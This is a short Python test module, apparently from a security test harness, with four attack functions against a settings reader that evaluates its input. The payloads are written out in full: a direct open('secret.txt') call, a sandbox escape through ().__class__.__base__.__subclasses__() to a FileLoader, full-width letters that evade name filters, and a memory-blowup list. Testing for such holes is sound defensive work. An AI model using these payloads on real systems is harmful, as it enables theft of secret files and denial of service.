"""Attacks through an expression in the place of a value."""

from prover import Target

from .stage import Stage


def attack_call_a_builtin(target: Target, stage: Stage) -> bool:
    """Write a function call where a value is expected."""
    found = target.read_settings('{"theme": open("secret.txt").read()}')
    print(found)
    return stage.secret in found["theme"]


def attack_from_an_empty_tuple(target: Target, stage: Stage) -> bool:
    """Use no name at all: go from `()` to its class, and from there to one that reads files."""
    classes = "().__class__.__base__.__subclasses__()"
    loader = f"[kind for kind in {classes} if kind.__name__ == 'FileLoader'][0]"
    found = target.read_settings(
        f'{{"theme": {loader}.get_data(None, "secret.txt").decode()}}'
    )
    print(found)
    return stage.secret in found["theme"]


def attack_wide_letters(target: Target, stage: Stage) -> bool:
    """Write the name in full-width letters, which Python normalises to ordinary ones."""
    found = target.read_settings('{"theme": ｏｐｅｎ("secret.txt").read()}')
    print(found)
    return stage.secret in found["theme"]


def attack_many_numbers(target: Target, stage: Stage) -> bool:
    """Send a list of 20 kB, whose syntax tree takes a hundred times as much memory."""
    text = '{"theme": "dark", "per_page": [' + "1," * 10_000 + "1]}"
    most = stage.memory_of(lambda: target.read_settings(text))
    print("more than a hundred bytes of memory for each byte:", most > 100 * len(text))
    return most > 100 * len(text)
